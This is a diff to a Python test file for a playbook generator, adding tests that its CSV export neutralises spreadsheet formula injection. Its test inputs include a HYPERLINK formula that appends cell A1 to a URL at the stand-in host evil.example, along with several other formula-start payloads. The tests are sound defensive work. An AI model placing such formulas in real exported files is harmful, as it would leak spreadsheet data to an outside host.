@@ -12,7 +12,7 @@ from icalendar import Calendar
 
 from factories import TODAY, WEDNESDAY, book, build_playbook, connector, edge, salesperson, target
 from playbook_gen.book import Book
-from playbook_gen.exports import CSV_HEADER, asks_csv, asks_ics
+from playbook_gen.exports import CSV_HEADER, asks_csv, asks_ics, csv_cell
 from playbook_gen.plan import plan_asks
 
 REFERENCE = {"name": "Priya Raman", "role": "accountant", "reference": True, "recent_project": {"title": "Model", "finished": "2026-10-01"}}
@@ -152,3 +152,33 @@ def test_a_rebuild_gives_byte_identical_exports(export_site: Path, tmp_path: Pat
     again = build_playbook(tmp_path, SITE_FILES)
     for name in ("asks.ics", "asks.csv"):
         assert (again / name).read_bytes() == (export_site / name).read_bytes()
+
+
+@pytest.mark.parametrize("role", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "-2+3", "@SUM(1)"])
+def test_a_role_that_would_run_as_a_formula_is_written_as_text(role: str) -> None:
+    """Issue 10, break 2 (OWASP CSV injection): the cell starts with an apostrophe, the row keeps its shape."""
+    reference = {**REFERENCE, "role": role}
+    plan = plan_asks(
+        book(
+            me=salesperson(target_roles=[role], asks_per_week=1, cooldown_weeks=1, weeks_ahead=1),
+            connectors=[connector("priya-raman", **reference), connector("greta-hansen", name="Greta Hansen", their=[role])],
+            targets=[],
+            edges=[],
+        )
+    )
+    rows = list(csv.reader(io.StringIO(asks_csv(plan))))
+    assert rows[0] == list(CSV_HEADER)
+    assert rows[1] == [plan[0].week.isoformat(), "greta-hansen", "", "'" + role, "role"]
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_every_formula_start_owasp_names_is_neutralised(cell: str) -> None:
+    # Text keys lose leading tabs and line breaks when read; the cell rule still covers them.
+    assert csv_cell(cell) == "'" + cell
+    assert csv_cell("Accountant") == "Accountant" and csv_cell("") == ""
+
+
+def test_ordinary_roles_and_ids_are_written_as_they_are() -> None:
+    rows = list(csv.reader(io.StringIO(asks_csv(plan_asks(sample_book())))))
+    assert all(not cell.startswith("'") for row in rows for cell in row)
+    assert any(row[3] == "accountant" for row in rows[1:])
